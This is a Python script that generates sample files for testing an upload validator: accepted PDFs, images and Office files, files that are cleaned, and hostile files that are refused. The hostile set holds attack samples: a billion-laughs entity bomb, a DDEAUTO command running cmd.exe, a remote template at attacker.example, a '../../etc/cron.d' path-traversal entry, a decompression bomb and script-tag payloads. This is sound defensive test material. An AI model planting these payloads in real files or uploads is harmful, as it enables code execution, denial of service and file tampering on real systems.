"""Writes the sample files anew: `python -m tests.files.make`.

`good/` is accepted as it is, `cleaned/` once something was taken out, `hostile/` is refused.
"""

from pathlib import Path

from ctts.demo.papers import pdf_of, phone_photo, saved, scene
from tests.files import office, pdfs, pictures
from tests.files.office import BASE, docx, docx_parts, package, pptx, relations, types, xlsx
from tests.files.pdfs import PLAIN

HERE = Path(__file__).resolve().parent
CERTIFICATE = [
    [
        "University of the Eastern Moors",
        "Transcript of studies",
        "Bachelor of Science in Medical Physics",
        "FHEQ level 6",
    ],
    ["Modules", "Radiation physics 68", "Human biology 71", "Electronics and instrumentation 64", "Statistics 59"],
    ["Award", "The degree was conferred on 14 July 2025.", "This transcript is a sample and certifies nothing."],
]
PLAN = [
    [f"Training plan, quarter {number}", "Rotation and learning outcomes agreed with the Training Supervisor.", *lines]
    for number, lines in enumerate(
        [
            ("Quality control of the gamma camera", "Radiopharmacy: aseptic working"),
            ("Patient positioning and imaging protocols", "Radiation protection of staff"),
            ("Therapy with radionuclides under supervision", "Waste records"),
            ("Audit of administered activities", "Long case study, first draft"),
            ("Non-imaging tests", "Teaching a junior colleague"),
            ("Competencies still open", "Portfolio and viva preparation"),
        ],
        1,
    )
]
ORDER = [
    ["Purchase order 4500-1182", "Training fee, one trainee, two years", "Net 6,400.00 GBP", "VAT 20 % 1,280.00 GBP"]
]
PIECE = (
    "Reflective piece: the first extravasation I saw",
    "What happened: the injection site was checked late and the supervisor stopped the procedure.",
    "So what: I had looked at the monitor and not at the arm.",
    "Now what: I check the site before, during and after each injection, and I say so aloud.",
)
ROWS = [
    ("Competency", "Planned month", "Evidence"),
    ("NM-01 Daily quality control", 2, "QC log"),
    ("NM-02 Preparation of kits", 4, "Worksheet"),
    ("NM-03 Dynamic renal study", 7, "Case notes without names"),
]
BILLION = '<!DOCTYPE lolz [<!ENTITY a "aaaaaaaaaa">' + "".join(
    f'<!ENTITY {name} "{f"&{before};" * 10}">' for before, name in zip("abcdefgh", "bcdefghi", strict=True)
)


def good() -> dict[str, bytes]:
    """Files as applicants and trainees send them."""
    return {
        "degree-certificate.pdf": pdf_of(CERTIFICATE),
        "training-plan.pdf": pdf_of(PLAN),
        "purchase-order.pdf": pdf_of(ORDER),
        "certificate-photo.jpg": phone_photo(),
        "uptake-chart.png": saved(scene(640, 400, "RGBA"), "PNG"),
        "phantom.webp": saved(scene(500, 400), "WEBP", quality=85),
        "reflective-piece.docx": docx(PIECE),
        "competency-map.xlsx": xlsx(ROWS, "Plan"),
        "teaching-session.pptx": pptx(("Radiation safety in the hot lab", "Time, distance, shielding")),
    }


def cleaned() -> dict[str, bytes]:
    """Files that are accepted once something was taken out of them."""
    return {
        "script.pdf": pdf_of(PLAIN, change=pdfs.script),
        "attachment.pdf": pdf_of(PLAIN, change=pdfs.attachment),
        "dynamic-form.pdf": pdf_of(PLAIN, change=pdfs.dynamic_form),
        "signed.pdf": pdf_of(PLAIN, change=pdfs.signature),
        "hard-names.pdf": pdf_of(PLAIN, change=pdfs.hard_names),
        "photograph.pdf": pdf_of(PLAIN, change=pdfs.photograph(phone_photo(320, 240, orientation=1))),
        "zip-behind.pdf": pdf_of(PLAIN) + package({"run.exe": b"MZ"}),
        "iphone.heic": pictures.iphone_photo(),
        "wrong-extension.pdf": saved(scene(60, 40), "JPEG", quality=80),
    }


def hostile() -> dict[str, bytes]:
    """Files that are refused."""
    return {**_refused_pdfs(), **_refused_pictures(), **_refused_office(), **_refused_others()}


def _refused_pdfs() -> dict[str, bytes]:
    whole = pdf_of(CERTIFICATE)
    return {
        "locked.pdf": pdf_of(PLAIN, encryption=pdfs.locked(), deterministic_id=False),
        "restricted.pdf": pdf_of(PLAIN, encryption=pdfs.restricted(), deterministic_id=False),
        "truncated.pdf": whole[: len(whole) * 2 // 3],
        "no-pages.pdf": pdf_of([]),
        "behind-a-picture.pdf": saved(scene(60, 40), "GIF") + whole,
        "web-page.pdf": b"<!DOCTYPE html><html><script>alert(1)</script></html>",
        "header-only.pdf": b"%PDF-1.7\n%%EOF\n",
    }


def _refused_pictures() -> dict[str, bytes]:
    photo = phone_photo()
    return {
        "truncated.jpg": photo[: len(photo) // 2],
        "pixel-bomb.png": pictures.pixel_bomb(),
        "moving.png": pictures.moving("PNG"),
        "moving.webp": pictures.moving("WEBP"),
        "animation.gif": saved(scene(60, 40), "GIF"),
        "scan.tiff": saved(scene(60, 40), "TIFF"),
        "phone.heic": b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(200),
        "burst.heic": b"\x00\x00\x00\x18ftyphevc\x00\x00\x00\x00msf1hevc" + bytes(200),
    }


def _refused_office() -> dict[str, bytes]:
    macro = types(word__document_xml="application/vnd.ms-word.document.macroEnabled.main+xml")
    template = relations(("attachedTemplate", "https://attacker.example/t.dotm", "External"))
    command = '<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'
    return {
        "macro.docm": package({**docx_parts(), "[Content_Types].xml": macro, "word/vbaProject.bin": b"macro"}),
        "macro.docx": package({**docx_parts(), "word/vbaProject.bin": b"macro"}),
        "remote-template.docx": package({**docx_parts(), "word/_rels/settings.xml.rels": template}),
        "command.docx": package({**docx_parts(), "word/document.xml": office.document((), extra=command)}),
        "entities.docx": package(
            {**docx_parts(), "word/document.xml": office.document(("&i;",), before=BILLION + "]>")}
        ),
        "bomb.docx": package({**docx_parts(), "word/media/zeros.bmp": bytes(210 * 1024 * 1024)}),
        "locked.docx": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "EncryptedPackage".encode("utf-16-le"),
        "old.doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1500),
        "text.odt": package({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<x/>"}),
        "archive.zip": package({"letter.txt": "hello"}),
        "truncated.docx": docx(PIECE)[:-400],
        "binary.xlsb": package(
            {"[Content_Types].xml": types(xl__workbook_xml="application/vnd.ms-excel.sheet.binary.main")}
        ),
        "two-in-one.docx": package(
            {
                "[Content_Types].xml": types(
                    word__document_xml=f"{BASE}wordprocessingml.document.main+xml",
                    xl__workbook_xml=f"{BASE}spreadsheetml.sheet.main+xml",
                )
            }
        ),
        "leads-out.docx": package({**docx_parts(), "../../etc/cron.d/run": "x"}),
    }


def _refused_others() -> dict[str, bytes]:
    return {
        "empty.pdf": b"",
        "notes.txt": b"Some notes, as plain text.\n",
        "program.exe": b"MZ\x90\x00" + bytes(400),
        "drawing.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    }


def main() -> None:
    """Write every file into its folder beside this script."""
    for folder, files in (("good", good()), ("cleaned", cleaned()), ("hostile", hostile())):
        (HERE / folder).mkdir(exist_ok=True)
        for name, content in files.items():
            (HERE / folder / name).write_bytes(content)


if __name__ == "__main__":
    main()
